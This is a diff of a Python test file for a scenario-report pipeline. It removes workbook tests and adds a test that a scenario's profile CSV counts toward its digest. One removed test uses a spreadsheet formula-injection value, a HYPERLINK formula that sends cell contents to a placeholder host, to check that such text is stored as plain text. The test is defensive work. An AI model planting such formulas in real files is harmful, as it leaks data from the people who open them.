@@ -1,7 +1,6 @@
 """The report pipeline: validates first, renders into a temporary place, never clobbers on failure, ends with its
 workers, locks, checks what it published and keeps the index whole."""
 
-import io
 import json
 import shutil
 import signal
@@ -380,70 +379,6 @@ def test_a_second_report_waits_for_the_first_and_renders_nothing_again(dirs, tmp
     assert "1 pages rendered" in first_out and "up to date" in second_out and "rendering" not in second_out
 
 
-# --- the workbook ---------------------------------------------------------------------------------------------
-
-def test_workbook_holds_every_scenario_with_its_numbers():
-    import pandas as pd
-
-    from econ import decide, scenario_files
-    from econ._views import PLAN_NAMES
-
-    scenarios = [load_scenario(f) for f in scenario_files()]
-    decisions = [decide(sc, draws=2_000) for sc in scenarios]
-    data = _report.workbook_bytes(scenarios, decisions)
-    assert data == _report.workbook_bytes(scenarios, decisions)  # no save time inside: reruns give the same file
-    sheets = pd.read_excel(io.BytesIO(data), sheet_name=None)
-    assert set(sheets) == {"summary", "provenance", *(sc.name for sc in scenarios)}
-    summary = sheets["summary"].set_index("scenario file")
-    for sc, d in zip(scenarios, decisions):
-        row = summary.loc[sc.name]
-        for key, name in PLAN_NAMES.items():
-            cell = row[f"{name} [USD/month]"]
-            if key in d.options:
-                assert cell == pytest.approx(d.options[key].monthly_usd)
-            else:
-                assert pd.isna(cell)
-        assert row["recommended plan"] == d.options[d.recommended].name
-        confidence = "confidence: share of draws in which it stays the cheapest eligible plan [fraction]"
-        assert row[confidence] == pytest.approx(d.confidence)
-        sheet = sheets[sc.name].astype(str)
-        assert sheet.apply(lambda col: col.str.contains("workload.requests_per_day")).any().any()
-        assert sc.file.name in sheets["provenance"]["item"].str.cat()
-    with zipfile.ZipFile(io.BytesIO(data)) as z:  # no local paths
-        text = "".join(z.read(n).decode() for n in z.namelist())
-    assert str(ROOT) not in text and "/tmp/" not in text and "params/small_team_spiky.yaml" in text
-
-
-def test_workbook_writes_scenario_text_as_text_never_as_a_formula(tmp_path):
-    from openpyxl import load_workbook
-
-    title = '=HYPERLINK("http://x/?"&A1,"click")'
-    sc = load_scenario(_scenario(tmp_path / "formulas.yaml", title,
-                                 "workload:\n  requests_per_day: {value: 5000, source: \"=1+1\"}\n"))
-    data = _report.workbook_bytes([sc], [quick_decide(sc)])
-    wb = load_workbook(io.BytesIO(data))
-    cells = [c for ws in wb for row in ws.iter_rows() for c in row if c.value is not None]
-    assert not [c.coordinate for c in cells if c.data_type == "f"]
-    texts = {c.value for c in cells}
-    assert title in texts and "=1+1" in texts
-    with zipfile.ZipFile(io.BytesIO(data)) as z:
-        sheets = [z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/")]
-    assert sheets and not any(b"<f>" in xml or b"<f " in xml for xml in sheets)
-
-
-def test_workbook_sheet_names_are_unique_and_allowed(tmp_path):
-    import pandas as pd
-
-    names = ["a_scenario_with_a_long_name_shared_one", "a_scenario_with_a_long_name_shared_two", "what?[x]", "Summary"]
-    scenarios = [load_scenario(_scenario(tmp_path / f"{n}.yaml", f"Title {i}")) for i, n in enumerate(names)]
-    data = _report.workbook_bytes(scenarios, [quick_decide(sc) for sc in scenarios])
-    sheets = pd.read_excel(io.BytesIO(data), sheet_name=None, header=None)
-    titles = {name: frame.iloc[0, 0] for name, frame in sheets.items() if name not in ("summary", "provenance")}
-    assert sorted(titles.values()) == [f"Title {i}" for i in range(4)]  # one sheet each, none replaced
-    assert all(len(n) <= 31 and not set(n) & set("[]:*?/\\") for n in titles)
-    assert len({n.lower() for n in sheets}) == len(sheets) == 6
-
-
 def test_index_links_names_with_url_characters(tmp_path):
     sc = load_scenario(_scenario(tmp_path / "what?#.yaml", "Odd"))
     assert 'href="what%3F%23/01_a.html"' in _report.index_html([quick_decide(sc)], [Path("01_a.ipynb")])
@@ -480,3 +415,13 @@ else:
     run = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, cwd=ROOT)
     assert run.returncode == 0, run.stderr
     assert run.stdout == ""  # nothing printed on import
+
+
+def test_a_scenarios_profile_csv_is_part_of_its_digest(tmp_path):
+    """Editing only the traffic profile CSV a scenario names renders its pages again."""
+    scenario, profile = tmp_path / "s.yaml", tmp_path / "week.csv"
+    scenario.write_text("traffic:\n  profile: {value: week.csv, source: our gateway}\n")
+    profile.write_text("timestamp,requests\n")
+    before = _report.scenario_digest(scenario)
+    profile.write_text("timestamp,requests\n2026-01-01T00:00:00,5\n")
+    assert _report.scenario_digest(scenario) != before
